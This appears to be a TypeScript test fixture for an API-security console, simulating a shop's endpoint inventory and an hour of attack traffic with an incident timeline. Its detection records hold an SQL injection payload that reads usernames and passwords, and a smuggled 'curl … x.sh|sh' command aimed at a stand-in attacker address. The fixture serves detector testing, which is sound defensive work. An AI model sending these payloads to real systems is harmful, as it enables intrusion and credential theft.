import type { TrafficBatch } from "../../src/console/traffic-store.ts";
import type { Detection } from "../../src/model/detection.ts";
import type { Endpoint, RiskContribution } from "../../src/model/endpoint.ts";
import {
  sampleDecision,
  sampleExchange,
  sampleIncident,
} from "../../src/storage/recorded-samples.ts";
import { sampleEndpoint } from "./sample-endpoint.ts";

const minuteMs = 60_000;
const attacker = "203.0.113.77";

const noAuthentication: RiskContribution = {
  factor: "no-authentication",
  points: 30,
  evidence: "118 of 118 calls without credentials were answered with success.",
  remedy: "Require the token that the rest of the API requires.",
  references: ["API2:2023", "CWE-306"],
  confidence: 0.97,
};
const undocumented: RiskContribution = {
  factor: "undocumented",
  points: 15,
  evidence: "Called 118 times, and not in openapi.yaml.",
  remedy: "Document it, or take it out of service.",
  references: ["API9:2023"],
  confidence: 1,
};
const exposedData: RiskContribution = {
  factor: "sensitive-data-exposure",
  points: 18,
  evidence: "E-mail addresses in 118 of 118 responses at $.owner.email.",
  remedy: "Return the address only to its owner.",
  references: ["API3:2023", "CWE-359"],
  confidence: 0.99,
};

/** An inventory of a shop, as an hour of traffic would have filled it. */
export function shopEndpoints(nowMs: number): readonly Endpoint[] {
  return [...riskyEndpoints(nowMs), ...otherEndpoints(nowMs)];
}

function seenBefore(nowMs: number, minutesAgo: number) {
  return { firstSeenMs: nowMs - 3 * 86_400_000, lastSeenMs: nowMs - minutesAgo * minuteMs };
}

function riskyEndpoints(nowMs: number): Endpoint[] {
  return [
    sampleEndpoint({
      id: "legacy",
      path: "/api/v1/products/{product_id}",
      lifecycle: "zombie",
      deprecated: true,
      calls: 118,
      attacks: 41,
      ...seenBefore(nowMs, 1),
      authentication: {
        required: false,
        kinds: [],
        confidence: 0.97,
        counts: { successWith: 0, successWithout: 118, refusedWith: 0, refusedWithout: 0 },
      },
      statuses: { "200": 97, "500": 14, "404": 7 },
      parameters: [
        {
          in: "path",
          name: "product_id",
          type: "integer",
          required: true,
          confidence: 0.93,
          samples: 118,
        },
        {
          in: "query",
          name: "expand",
          type: "string",
          required: false,
          confidence: 0.71,
          samples: 12,
        },
      ],
      sensitiveData: [
        { in: "response", name: "$.owner.email", class: "email", samples: 118, confidence: 0.99 },
        { in: "response", name: "$.owner.phone", class: "phone", samples: 80, confidence: 0.91 },
      ],
      observations: { "stack-trace": 14 },
      schemas: { response: { type: "object", properties: { id: { type: "integer" } } } },
      risk: {
        score: 88,
        level: "critical",
        factors: [noAuthentication, exposedData, undocumented],
      },
    }),
    sampleEndpoint({
      id: "login",
      method: "POST",
      path: "/api/v2/login",
      calls: 4_210,
      attacks: 12,
      ...seenBefore(nowMs, 0),
      statuses: { "200": 4_010, "401": 200 },
      sensitiveData: [
        { in: "request", name: "$.email", class: "email", samples: 4_210, confidence: 1 },
        { in: "request", name: "$.password", class: "password", samples: 4_210, confidence: 1 },
      ],
      risk: { score: 34, level: "medium", factors: [exposedData] },
    }),
    sampleEndpoint({
      id: "orders",
      path: "/api/v2/orders/{orderId}",
      calls: 22_904,
      ...seenBefore(nowMs, 0),
      sensitiveData: [
        { in: "response", name: "$.card", class: "payment-card", samples: 9_000, confidence: 0.98 },
        { in: "response", name: "$.iban", class: "iban", samples: 2_000, confidence: 0.98 },
      ],
      risk: { score: 61, level: "high", factors: [exposedData] },
    }),
  ];
}

function otherEndpoints(nowMs: number): Endpoint[] {
  const open = sampleEndpoint({ id: "x" }).authentication;
  return [
    sampleEndpoint({
      id: "products",
      path: "/api/v2/products",
      calls: 91_220,
      ...seenBefore(nowMs, 0),
    }),
    sampleEndpoint({
      id: "product",
      path: "/api/v2/products/{productId}",
      calls: 61_002,
      ...seenBefore(nowMs, 0),
    }),
    sampleEndpoint({
      id: "graphql",
      method: "POST",
      path: "/graphql",
      operation: "query products",
      style: "graphql",
      lifecycle: "undocumented",
      calls: 3_118,
      ...seenBefore(nowMs, 4),
      authentication: { kinds: open.kinds, confidence: 0.4, counts: open.counts },
      risk: { score: 22, level: "low", factors: [undocumented] },
    }),
    sampleEndpoint({
      id: "soap",
      method: "POST",
      path: "/soap/stock",
      operation: "GetStock",
      style: "soap",
      lifecycle: "deprecated",
      deprecated: true,
      calls: 310,
      ...seenBefore(nowMs, 52),
      risk: { score: 45, level: "medium", factors: [noAuthentication] },
    }),
    sampleEndpoint({
      id: "refunds",
      method: "POST",
      path: "/api/v2/refunds",
      lifecycle: "orphan",
      calls: 0,
      firstSeenMs: 0,
      lastSeenMs: 0,
      statuses: {},
    }),
  ];
}

const injection: Detection = {
  detector: "sql-injection",
  confidence: "high",
  location: "path",
  name: "3",
  part: "value",
  evidence: "' UNION SELECT name, password FROM users--",
  span: { start: 2, end: 44 },
  value: "12' UNION SELECT name, password FROM users--",
  steps: [
    { decoding: "percent", value: "12%27%20UNION%20SELECT name, password FROM users--" },
    { decoding: "percent", value: "12' UNION SELECT name, password FROM users--" },
  ],
  explanation:
    "In an SQL statement the quote ends the string the value stands in, and UNION SELECT adds the rows of another table.",
};
const command: Detection = {
  ...injection,
  detector: "command-injection",
  location: "query",
  name: "expand",
  evidence: ";curl http://203.0.113.77/x.sh|sh",
  span: { start: 3, end: 36 },
  value: "all;curl http://203.0.113.77/x.sh|sh",
  steps: [{ decoding: "percent", value: "all;curl http://203.0.113.77/x.sh|sh" }],
  explanation:
    "In a shell the semicolon ends the command, and a second one loads and runs a script.",
};

/** An hour of decisions with one incident: probes, SQL injection, then a shell command. */
export function shopTraffic(nowMs: number): TrafficBatch {
  const at: Ago = (minutesAgo) => nowMs - minutesAgo * minuteMs;
  return { decisions: decisionsOf(at), exchanges: exchangesOf(at), incidents: incidentsOf(at) };
}

type Ago = (minutesAgo: number) => number;

const path = "/api/v1/products/12%2527%2520UNION%2520SELECT%20name,%20password%20FROM%20users--";

const verdict = {
  protection: "attack-detection",
  mode: "observe",
  phase: "request-headers",
  action: "block",
  status: 403,
  reason: "sql-injection in path:3 with high confidence, score 5",
} as const;

function decisionsOf(at: Ago): TrafficBatch["decisions"] {
  return [
    ...Array.from({ length: 40 }, (_, index) =>
      sampleDecision({
        id: `probe-${index}`,
        timeMs: at(59 - index),
        client: attacker,
        path: `/api/v1/products/${index}%27`,
        endpoint: "legacy",
        detections: [{ ...injection, confidence: "medium" }],
        verdicts: [verdict],
      }),
    ),
    sampleDecision({
      id: "injection",
      timeMs: at(6),
      client: attacker,
      path,
      endpoint: "legacy",
      detections: [injection],
      verdicts: [verdict],
    }),
    sampleDecision({
      id: "command",
      timeMs: at(2),
      client: attacker,
      path: "/api/v1/products/12",
      endpoint: "legacy",
      action: "block",
      score: 5,
      detections: [command],
      verdicts: [{ ...verdict, mode: "enforce", reason: "command-injection in query:expand" }],
    }),
  ];
}

function exchangesOf(at: Ago): TrafficBatch["exchanges"] {
  return [
    sampleExchange({
      id: "injection",
      timeMs: at(6),
      client: attacker,
      endpoint: "legacy",
      request: {
        method: "GET",
        url: `http://shop.example${path}`,
        httpVersion: "1.1",
        headers: [
          ["host", "shop.example"],
          ["user-agent", "sqlmap/1.8"],
          ["authorization", "Bearer ‹fingerprint 7f3a09›"],
        ],
      },
      response: {
        status: 200,
        headers: [["content-type", "application/json"]],
        body: '[{"name":"admin","password":"‹masked›"}]',
      },
    }),
  ];
}

function incidentsOf(at: Ago): TrafficBatch["incidents"] {
  return [
    sampleIncident({
      id: "incident-1",
      client: attacker,
      firstSeenMs: at(60),
      lastSeenMs: at(2),
      requests: 57,
      blocked: 1,
      severity: "critical",
      detectors: { "sql-injection": 41, "command-injection": 1 },
      summary: `${attacker} found an undocumented endpoint, injected SQL, and tried a shell command.`,
      steps: [
        {
          timeMs: at(60),
          endpoint: "GET shop.example/api/v1/products/{product_id}",
          kind: "reconnaissance",
          what: "Asked for 15 paths that do not exist.",
          action: "allow",
          count: 15,
        },
        {
          timeMs: at(59),
          decision: "probe-0",
          endpoint: "GET shop.example/api/v1/products/{product_id}",
          kind: "probe",
          what: "Tried quotes in product_id.",
          action: "allow",
          count: 40,
        },
        {
          timeMs: at(6),
          decision: "injection",
          endpoint: "GET shop.example/api/v1/products/{product_id}",
          kind: "attack",
          what: "SQL injection in product_id was answered with 200.",
          action: "allow",
          count: 1,
        },
        {
          timeMs: at(2),
          decision: "command",
          endpoint: "GET shop.example/api/v1/products/{product_id}",
          kind: "escalation",
          what: "Tried to run a shell command through expand.",
          action: "block",
          count: 1,
        },
      ],
    }),
  ];
}
